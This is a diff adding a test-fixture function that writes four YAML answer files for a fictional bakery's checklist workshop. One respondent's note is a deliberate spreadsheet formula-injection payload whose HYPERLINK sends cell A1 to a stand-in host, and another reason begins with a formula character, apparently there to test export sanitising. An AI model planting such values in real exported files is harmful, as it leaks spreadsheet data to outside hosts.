@@ -90,3 +90,44 @@ def write_four_with_maps(folder: Path) -> list[Path]:
         path.write_text(yamlsafe.dump(data), encoding="utf-8")
         paths.append(path)
     return paths
+
+
+TEAM = [("Olive Owner", "leadership"), ("Mark Manager", "leadership"), ("Fay", "frontline"), ("Gus", "frontline")]
+HOSTILE_NOTE = '=HYPERLINK("http://example.invalid/?leak="&A1,"click") @SUM(1+1)'
+
+
+def write_bundled_team(folder: Path) -> list[Path]:
+    """The bundled example of a workshop: four people over every bundled checklist, answered apart.
+
+    Leadership answer high and the front line low on every third item (a disagreement), the
+    rest close together; one note is a formula, as a hostile or careless hand might write it.
+    """
+    from cxcheck.core.catalog import discover
+
+    folder.mkdir(parents=True, exist_ok=True)
+    checklists = [e.checklist for e in discover()]
+    paths = []
+    for person, (name, role) in enumerate(TEAM):
+        chosen: dict[str, Any] = {}
+        for checklist in checklists:
+            for n, (_, item) in enumerate(checklist.items):
+                values = [o.value for o in checklist.scale_of(item).options]
+                if n % 3 == 0:
+                    pick = values[-1] if role == "leadership" else values[0]
+                else:
+                    pick = values[min(len(values) - 1, (n + person) % len(values))]
+                chosen[checklist.full_id(item)] = pick
+        first = checklists[0].full_id(checklists[0].items[0][1])
+        if person == 2:
+            chosen[first] = {"value": chosen[first], "note": HOSTILE_NOTE}
+        if person == 3:
+            last = checklists[-1].full_id(checklists[-1].items[-1][1])
+            chosen[last] = {"value": "n/a", "reason": "+not our business"}
+        data = {
+            "respondent": name, "role": role, "organisation": "Harbour Street Bakery", "date": "2024-05-01",
+            "checklists": {c.id: c.version for c in checklists}, "answers": chosen,
+        }  # fmt: skip
+        path = folder / f"answers-{name.split()[0].lower()}.yaml"
+        path.write_text(yamlsafe.dump(data), encoding="utf-8")
+        paths.append(path)
+    return paths
